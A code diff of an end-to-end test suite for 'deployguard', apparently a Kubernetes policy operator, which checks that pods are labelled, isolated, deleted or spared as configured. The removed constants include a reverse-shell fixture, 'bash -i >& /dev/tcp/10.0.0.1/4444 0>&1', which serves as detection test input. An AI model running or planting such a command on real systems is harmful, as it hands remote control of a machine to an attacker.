@@ -5,173 +5,49 @@
 // of api.md section 5 with bounded labels.
 import { expect } from 'chai';
 import { freshNamespace, kubectl, waitFor } from '../cluster.ts';
-import { OperatorProcess, applyPolicy, metricValue, operatorAccount } from './harness.ts';
+import { applyPolicy, metricValue } from './harness.ts';
+import {
+  BASELINE,
+  CORDONED_AT,
+  CORDONED_BY,
+  DETECTED_AT,
+  ISOLATED,
+  PRIVILEGED,
+  REPORTER,
+  REVERSE_SHELL,
+  RFC3339,
+  VIOLATING,
+  VIOLATIONS,
+  about,
+  annotated,
+  create,
+  events,
+  get,
+  list,
+  pod,
+  policyStatus,
+  printLogOnFailure,
+  releaseNodes,
+  schedulableWorkers,
+  sleep,
+  start,
+  waitForEvents,
+  waitForStatus,
+  type EventJson,
+  type Meta,
+  type NodeJson,
+  type PodJson,
+} from './objects.ts';
 
-interface Meta {
-  name: string;
-  namespace?: string;
-  uid: string;
-  labels?: Record<string, string>;
-  annotations?: Record<string, string>;
-  ownerReferences?: { apiVersion: string; kind: string; name: string; uid: string }[];
-}
-interface PodJson {
-  metadata: Meta;
-}
-interface NodeJson {
-  metadata: Meta;
-  spec: { unschedulable?: boolean };
-}
 interface NetworkPolicyJson {
   metadata: Meta;
   spec: Record<string, unknown>;
-}
-interface EventJson {
-  reason: string;
-  type: string;
-  message: string;
-  reportingComponent?: string;
-  involvedObject: { kind: string; name: string; uid?: string };
-}
-interface PolicyStatus {
-  totalViolations?: number;
-  violatingPods?: number;
-  actions?: Record<string, number>;
-  totalActions?: number;
-}
-
-const VIOLATIONS = 'deployguard.dev/violations';
-const DETECTED_AT = 'deployguard.dev/detected-at';
-const VIOLATING = 'deployguard.dev/violating';
-const ISOLATED = 'deployguard.dev/isolated';
-const CORDONED_BY = 'deployguard.dev/cordoned-by';
-const CORDONED_AT = 'deployguard.dev/cordoned-at';
-const REPORTER = 'deployguard.dev/operator';
-const RFC3339 = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/;
-const REVERSE_SHELL = { command: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] };
-const PRIVILEGED = { securityContext: { privileged: true } };
-const BASELINE = { podSecurity: { level: 'baseline' } };
-
-const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
-
-function pod(
-  name: string,
-  container: Record<string, unknown>,
-  spec: Record<string, unknown> = {},
-): Record<string, unknown> {
-  return {
-    apiVersion: 'v1',
-    kind: 'Pod',
-    metadata: { name },
-    spec: {
-      containers: [{ name: 'c', image: 'registry.example.com/app:1.0', ...container }],
-      ...spec,
-    },
-  };
-}
-
-/** Creates the objects in one kubectl call and returns them as the API server stored them. */
-async function create(ns: string, ...objects: Record<string, unknown>[]): Promise<PodJson[]> {
-  const r = await kubectl(['create', '-n', ns, '-o', 'json', '-f', '-'], {
-    input: JSON.stringify({ apiVersion: 'v1', kind: 'List', items: objects }),
-  });
-  // One JSON document per object, printed one after the other.
-  return JSON.parse(`[${r.stdout.replace(/\}\n\{/g, '},{')}]`) as PodJson[];
-}
-
-async function get<T>(kind: string, name: string, ns?: string): Promise<T | undefined> {
-  const r = await kubectl(['get', kind, name, '-o', 'json', ...(ns ? ['-n', ns] : [])], {
-    allowFail: true,
-  });
-  return r.code === 0 ? (JSON.parse(r.stdout) as T) : undefined;
-}
-
-async function list<T>(kind: string, ns: string): Promise<T[]> {
-  const r = await kubectl(['get', kind, '-n', ns, '-o', 'json']);
-  return (JSON.parse(r.stdout) as { items: T[] }).items;
-}
-
-async function events(ns: string, selector: Record<string, string>): Promise<EventJson[]> {
-  const fs = Object.entries(selector)
-    .map(([k, v]) => `${k}=${v}`)
-    .join(',');
-  const r = await kubectl(['get', 'events', '-n', ns, '--field-selector', fs, '-o', 'json']);
-  return (JSON.parse(r.stdout) as { items: EventJson[] }).items;
-}
-
-async function eventsFor(ns: string, pod: string, reason: string): Promise<EventJson[]> {
-  return events(ns, { 'involvedObject.name': pod, reason });
-}
-
-/** Waits until at least one such event exists, and returns them all. */
-async function waitForEvents(ns: string, pod: string, reason: string): Promise<EventJson[]> {
-  return waitFor(`${reason} event on ${ns}/${pod}`, async () => {
-    const l = await eventsFor(ns, pod, reason);
-    return l.length > 0 ? l : undefined;
-  });
-}
-
-async function policyStatus(name: string): Promise<PolicyStatus | undefined> {
-  return (await get<{ status?: PolicyStatus }>('containerdeploymentpolicy', name))?.status;
-}
-
-async function waitForStatus(
-  name: string,
-  pred: (s: PolicyStatus) => boolean,
-): Promise<PolicyStatus> {
-  return waitFor(`status of ${name}`, async () => {
-    const s = await policyStatus(name);
-    return s && pred(s) ? s : undefined;
-  });
 }
 
 const ours = (m: Meta): string[] => [
   ...Object.keys(m.annotations ?? {}).filter((k) => k.startsWith('deployguard.dev/')),
   ...Object.keys(m.labels ?? {}).filter((k) => k.startsWith('deployguard.dev/')),
 ];
-
-/** A worker node nobody has cordoned (the control-plane node is never a candidate). */
-async function schedulableWorkers(): Promise<string[]> {
-  const r = await kubectl(['get', 'nodes', '-o', 'json']);
-  return (JSON.parse(r.stdout) as { items: NodeJson[] }).items
-    .filter((n) => !n.spec.unschedulable && n.metadata.name.startsWith('kwok-worker-'))
-    .map((n) => n.metadata.name);
-}
-
-/** Undoes what the operator did to nodes for `policy`, so later tests find a whole cluster. */
-async function releaseNodes(policy: string): Promise<void> {
-  const r = await kubectl(['get', 'nodes', '-o', 'json']);
-  for (const n of (JSON.parse(r.stdout) as { items: NodeJson[] }).items) {
-    if (!n.metadata.annotations?.[CORDONED_BY]?.startsWith(`${policy}/`)) continue;
-    await kubectl(['uncordon', n.metadata.name]);
-    await kubectl(['annotate', 'node', n.metadata.name, `${CORDONED_BY}-`, `${CORDONED_AT}-`]);
-  }
-}
-
-/** The operator of the running test, whose log is printed when the test fails. */
-let current: OperatorProcess | undefined;
-
-async function start(own: string, args: string[] = []): Promise<OperatorProcess> {
-  current = await OperatorProcess.start({
-    namespace: own,
-    kubeconfig: await operatorAccount(own),
-    args,
-  });
-  return current;
-}
-
-function printLogOnFailure(this: Mocha.Context): void {
-  if (this.currentTest?.state === 'failed' && current) {
-    const lines = current.logs.filter((l) => l.level === 'warn' || l.level === 'error');
-    console.error(
-      lines
-        .slice(-40)
-        .map((l) => JSON.stringify(l))
-        .join('\n'),
-    );
-  }
-  current = undefined;
-}
 
 describe('operator: Enforce actions', function () {
   this.timeout(120_000);
@@ -228,7 +104,7 @@ describe('operator: Enforce actions', function () {
       ['PodLabeled', 'Normal'],
       ['PodIsolated', 'Warning'],
     ] as const) {
-      const ev = await waitForEvents(enf, 'shell', reason);
+      const ev = await waitForEvents(enf, about('shell', reason));
       expect(ev, reason).to.have.length(1);
       expect(ev[0]).to.include({ type, reportingComponent: REPORTER });
       expect(ev[0]?.involvedObject.uid).to.equal(uid);
@@ -248,15 +124,12 @@ describe('operator: Enforce actions', function () {
     expect(status.totalViolations).to.equal(1);
 
     // Audit: recorded exactly like Enforce records, and nothing more.
-    const recorded = await waitFor('audit annotation', async () => {
-      const p = await get<PodJson>('pod', 'shell', aud);
-      return p?.metadata.annotations?.[VIOLATIONS] ? p : undefined;
-    });
+    const recorded = await annotated(aud, 'shell', 60_000);
     expect(recorded.metadata.annotations?.[VIOLATIONS]).to.equal(
       `[{"policy":"${audit}","rule":"indicator.reverseShell","severity":"critical"}]`,
     );
     expect(recorded.metadata.annotations?.[DETECTED_AT]).to.match(RFC3339);
-    expect(await waitForEvents(aud, 'shell', 'PolicyViolation')).to.have.length(1);
+    expect(await waitForEvents(aud, about('shell', 'PolicyViolation'))).to.have.length(1);
     const auditStatus = await waitForStatus(audit, (s) => s.totalViolations === 1);
 
     // Nothing more happens once settled: no second action, no second NetworkPolicy.
@@ -265,7 +138,7 @@ describe('operator: Enforce actions', function () {
     expect(audited?.metadata.labels ?? {}).to.deep.equal({ [VIOLATING]: 'true' });
     expect(await list('networkpolicies', aud)).to.have.length(0);
     for (const reason of ['PodLabeled', 'PodIsolated', 'ActionSkipped'])
-      expect(await eventsFor(aud, 'shell', reason), reason).to.have.length(0);
+      expect(await events(aud, about('shell', reason)), reason).to.have.length(0);
     expect(await op.metric('deployguard_actions_total', { policy: audit })).to.equal(0);
     expect(auditStatus.totalActions ?? 0).to.equal(0);
     expect(Object.values(auditStatus.actions ?? {}).every((n) => n === 0)).to.equal(true);
@@ -273,7 +146,7 @@ describe('operator: Enforce actions', function () {
     expect(await op.metric('deployguard_actions_total', { policy: enforce })).to.equal(2);
     expect(await list('networkpolicies', enf)).to.have.length(1);
     for (const reason of ['PodLabeled', 'PodIsolated'])
-      expect(await eventsFor(enf, 'shell', reason), reason).to.have.length(1);
+      expect(await events(enf, about('shell', reason)), reason).to.have.length(1);
     const benign = await get<PodJson>('pod', 'benign', enf);
     expect(benign && ours(benign.metadata)).to.deep.equal([]);
     expect(benign?.metadata.labels ?? {}).to.not.have.property('quarantine');
@@ -295,17 +168,14 @@ describe('operator: Enforce actions', function () {
 
     await waitFor('priv deleted', async () => (await get('pod', 'priv', ns)) === undefined);
     // The Event is about the pod, and outlives it.
-    const deleted = await waitForEvents(ns, 'priv', 'PodDeleted');
+    const deleted = await waitForEvents(ns, about('priv', 'PodDeleted'));
     expect(deleted).to.have.length(1);
     expect(deleted[0]).to.include({ type: 'Warning', reportingComponent: REPORTER });
     expect(deleted[0]?.involvedObject.uid).to.equal(priv?.metadata.uid);
     expect(deleted[0]?.message).to.contain('pss.privileged');
-    expect(await eventsFor(ns, 'priv', 'PolicyViolation')).to.have.length(1);
+    expect(await events(ns, about('priv', 'PolicyViolation'))).to.have.length(1);
 
-    const bare = await waitFor('bare recorded', async () => {
-      const p = await get<PodJson>('pod', 'bare', ns);
-      return p?.metadata.annotations?.[VIOLATIONS] ? p : undefined;
-    });
+    const bare = await annotated(ns, 'bare', 60_000);
     expect(bare.metadata.annotations?.[VIOLATIONS]).to.equal(
       `[{"policy":"${policy}","rule":"ownership.barePod","severity":"medium"}]`,
     );
@@ -316,7 +186,7 @@ describe('operator: Enforce actions', function () {
     await sleep(1500);
     expect(await get('pod', 'bare', ns), 'bare pod (medium only) deleted').to.not.equal(undefined);
     for (const reason of ['PodDeleted', 'ActionSkipped'])
-      expect(await eventsFor(ns, 'bare', reason), reason).to.have.length(0);
+      expect(await events(ns, about('bare', reason)), reason).to.have.length(0);
     const v = (rule: string): Promise<number> =>
       op.metric('deployguard_violations_total', { policy, rule, namespace: ns });
     expect(await v('pss.privileged')).to.equal(1);
@@ -382,7 +252,7 @@ describe('operator: Enforce actions', function () {
           ],
         }),
       );
-      const skipped = await waitForEvents(ns, 'cp', 'ActionSkipped');
+      const skipped = await waitForEvents(ns, about('cp', 'ActionSkipped'));
       expect(skipped).to.have.length(1);
       expect(skipped[0]?.message).to.contain('control-plane');
       await op.waitForLog((l) => l.guard === 'controlPlaneNode' && l.action === 'CordonNode');
@@ -420,16 +290,10 @@ describe('operator: Enforce actions', function () {
     await create(excluded, pod('priv', PRIVILEGED));
     await create(protectedNs, pod('priv', PRIVILEGED));
 
-    const recorded = await waitFor('protected pod recorded', async () => {
-      const p = await get<PodJson>('pod', 'priv', protectedNs);
-      return p?.metadata.annotations?.[VIOLATIONS] ? p : undefined;
-    });
+    const recorded = await annotated(protectedNs, 'priv', 60_000);
     expect(recorded.metadata.labels?.[VIOLATING]).to.equal('true');
     expect(recorded.metadata.labels ?? {}).to.not.have.property('quarantine');
-    const skipped = await waitFor('two ActionSkipped events', async () => {
-      const l = await eventsFor(protectedNs, 'priv', 'ActionSkipped');
-      return l.length >= 2 ? l : undefined;
-    });
+    const skipped = await waitForEvents(protectedNs, about('priv', 'ActionSkipped'), 2);
     expect(skipped.map((e) => e.message).sort()).to.satisfy((m: string[]) =>
       m.every((s) => s.includes(`namespace ${protectedNs} is protected`)),
     );
@@ -439,7 +303,7 @@ describe('operator: Enforce actions', function () {
 
     await sleep(1500);
     expect(await get('pod', 'priv', protectedNs), 'protected pod deleted').to.not.equal(undefined);
-    expect(await eventsFor(protectedNs, 'priv', 'ActionSkipped')).to.have.length(2);
+    expect(await events(protectedNs, about('priv', 'ActionSkipped'))).to.have.length(2);
     expect(await op.metric('deployguard_actions_total', { policy, outcome: 'success' })).to.equal(
       0,
     );
@@ -466,8 +330,8 @@ describe('operator: Enforce actions', function () {
     const op = await start(own, ['--dry-run']);
     await create(ns, pod('priv', PRIVILEGED));
 
-    expect(await waitForEvents(ns, 'priv', 'PolicyViolation')).to.have.length(1);
-    const skipped = await waitForEvents(ns, 'priv', 'ActionSkipped');
+    expect(await waitForEvents(ns, about('priv', 'PolicyViolation'))).to.have.length(1);
+    const skipped = await waitForEvents(ns, about('priv', 'ActionSkipped'));
     expect(skipped).to.have.length(1);
     expect(skipped[0]?.message).to.match(/dry run/i);
     expect(
@@ -500,7 +364,7 @@ describe('operator: Enforce actions', function () {
     const op = await start(own);
     const startedAt = Date.now() / 1000;
     const [live] = await create(ns, pod('live-attacker', PRIVILEGED));
-    await waitForEvents(ns, 'live-attacker', 'PodLabeled');
+    await waitForEvents(ns, about('live-attacker', 'PodLabeled'));
 
     // The operator sees the pod's creation and deletion only after both happened: an attacker's
     // pod that is gone before anyone could look at it.
@@ -513,7 +377,7 @@ describe('operator: Enforce actions', function () {
     } finally {
       op.signal('SIGCONT');
     }
-    const ghost = await waitForEvents(ns, 'ghost-attacker', 'PolicyViolation');
+    const ghost = await waitForEvents(ns, about('ghost-attacker', 'PolicyViolation'));
     expect(ghost).to.have.length(1);
     expect(ghost[0]?.message).to.contain('indicator.reverseShell');
     expect(ghost[0]?.involvedObject.uid).to.equal(ghostUid);
